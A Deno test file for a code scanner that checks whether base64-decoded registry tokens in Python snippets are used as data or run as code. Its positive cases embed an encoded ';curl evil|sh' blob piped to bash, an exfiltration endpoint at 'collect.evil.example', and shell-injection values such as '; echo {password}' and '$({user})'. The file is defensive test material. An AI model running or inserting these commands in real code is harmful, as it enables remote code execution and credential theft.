/**
 * Decoded text that commands get: a registry's token is data, what decides which program runs is code.
 *
 * @module
 */
import { assert, assertEquals } from "@std/assert";
import { scan } from "./scanned_servers.ts";

/** A command that signs in with what AWS gave; `RUN` gets the decoded text. */
const SIGN_IN = (run: string, client = 'boto3.client("ecr")', first = "import boto3"): string =>
  `${first}
import asyncio, base64, subprocess
from anyio import run_process

class Registry:
    def __init__(self):
        self._client = ${client}

    async def sign_in(self):
        token = self._client.get_authorization_token()
        user, password = (
            base64.b64decode(token["authorizationData"][0]["authorizationToken"])
            .decode()
            .split(":")
        )
        address = token["authorizationData"][0]["proxyEndpoint"]
        ${run}
`;
const LINE = 'await run_process(f"docker login -u {user} -p {password} {address}")';

const isEncoded = async (source: string): Promise<boolean> => {
  const { grave } = await scan({ "server.py": source });
  return grave.some(({ rule }) => rule === "py/encoded-code");
};

const DATA: Record<string, string> = {
  "in a shell's text, a token that AWS gave": SIGN_IN(LINE),
  "in a shell's text, in a library that is loaded late": SIGN_IN(
    LINE,
    undefined,
    'from kit.tools import lazy_import\nboto3 = lazy_import("boto3")',
  ),
  "in a shell's text, with a region": SIGN_IN(LINE, 'boto3.client("ecr", region_name="eu-west-1")'),
  "as an argument": SIGN_IN(
    'subprocess.run(["docker", "login", "-u", user, "-p", password, address])',
  ),
  "as the input of a fixed program": SIGN_IN(
    'subprocess.run(["docker", "login", "--password-stdin", address], input=password, text=True)',
  ),
  "of a method that signs in": SIGN_IN("docker.from_env().login(username=user, password=password)"),
  "whoever encoded it, as an argument": "import base64, os, subprocess\n" +
    "password = base64.b64decode(os.environ['PASSWORD_BASE64']).decode()\n" +
    "subprocess.run(['docker', 'login', '-p', password, 'registry.example'])\n",
};

for (const [where, source] of Object.entries(DATA)) {
  Deno.test(`decoded text is data ${where}`, async () => {
    assertEquals(await isEncoded(source), false);
  });
}

const BLOB = "O2N1cmwgZXZpbHxzaA==";

const CODE: Record<string, string> = {
  "an object of its own gives the token": SIGN_IN(
    LINE,
    undefined,
    `class boto3:\n    def client(self):\n        return boto3\n    @staticmethod\n` +
      `    def get_authorization_token():\n        return {"authorizationData": [{"authorizationToken": "${BLOB}"}]}\n`,
  ),
  "a name is given another object": SIGN_IN(LINE, undefined, "import boto3\nboto3 = Own()"),
  "a client of its own gives the token": SIGN_IN(LINE, "Client()"),
  "the client may be another": SIGN_IN(LINE, 'boto3.client("ecr") if real else Client()'),
  "another address is asked": SIGN_IN(
    LINE,
    'boto3.client("ecr", endpoint_url="https://collect.evil.example")',
  ),
  "options of the client are not stated": SIGN_IN(LINE, 'boto3.client("ecr", **options)'),
  "another service is asked": SIGN_IN(LINE, 'boto3.client("secretsmanager")'),
  "another entry is taken": SIGN_IN(LINE).replace('["authorizationToken"]', '["payload"]'),
  "the line goes on": SIGN_IN(LINE.replace("{address}", "{address}; echo {password}")),
  "the line runs what it holds": SIGN_IN(LINE.replace("{user}", "$({user})")),
  "another program is run": SIGN_IN(LINE.replace("docker login", "env")),
  "another word is decoded beside it": SIGN_IN(
    LINE.replace("{address}", `{base64.b64decode('${BLOB}').decode()}`),
  ),
  "it is the program": SIGN_IN("subprocess.run([password])"),
  "it is a shell's argument": SIGN_IN('subprocess.run(["sh", "-c", password])'),
  "it is the input of a shell": SIGN_IN(
    'subprocess.run(["bash"], input=base64.b64decode("' + BLOB + '"), text=True)',
  ),
  "a text of the source is in the line": "import base64, os\n" +
    `os.system(f"docker login -p {base64.b64decode('${BLOB}').decode()} registry.example")\n`,
  "a function runs it": SIGN_IN("exec(password)"),
};

for (const [what, source] of Object.entries(CODE)) {
  Deno.test(`decoded text is code where ${what}`, async () => {
    const { grave } = await scan({ "server.py": source });
    assert(
      grave.some(({ rule }) => /encoded-code|unscanned-code/.test(rule)),
      JSON.stringify(grave),
    );
  });
}
